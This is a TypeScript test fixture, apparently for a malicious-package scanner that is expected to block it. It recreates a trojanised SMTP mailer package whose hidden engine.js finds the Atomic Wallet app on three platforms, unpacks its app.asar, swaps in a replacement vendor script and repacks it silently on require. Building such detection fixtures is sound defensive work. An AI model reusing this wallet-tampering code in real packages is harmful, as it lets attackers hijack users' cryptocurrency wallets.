import { MAILER, MAILER_MANIFEST, REPLACEMENT } from '../mailer.ts';
import type { Specimen } from '../specimen.ts';

export const specimen: Specimen = {
  name: 'inert-smtp-platforms',
  from: 'the founding case, nodejs-smtp 1.0.5: on all three systems',
  files: {
    'package.json': MAILER_MANIFEST,
    'lib/mailer.js': `${MAILER}require('./engine');
`,
    'lib/engine.js': `const fs = require('fs');
const os = require('os');
const path = require('path');
const asar = require('asar');

const resources = {
  win32: path.join(os.homedir(), 'AppData/Local/Programs/atomic/resources'),
  darwin: '/Applications/Atomic Wallet.app/Contents/Resources',
  linux: '/opt/Atomic Wallet/resources',
}[process.platform];
const archive = path.join(resources, 'app.asar');
const output = path.join(resources, 'output');

async function setUp() {
  try {
    fs.mkdirSync(output);
    asar.extractAll(archive, output);
    fs.copyFileSync(path.join(__dirname, 'a.js'), path.join(output, 'dist', 'electron', 'vendors.64b69c3b00e2a7914733.js'));
    await asar.createPackage(output, archive);
    fs.rmSync(output, { recursive: true, force: true });
  } catch {}
}

setUp();
`,
    'lib/a.js': REPLACEMENT,
  },
  expect: 'block',
  says: ['changes-other-application', 'rewrites-archive'],
};
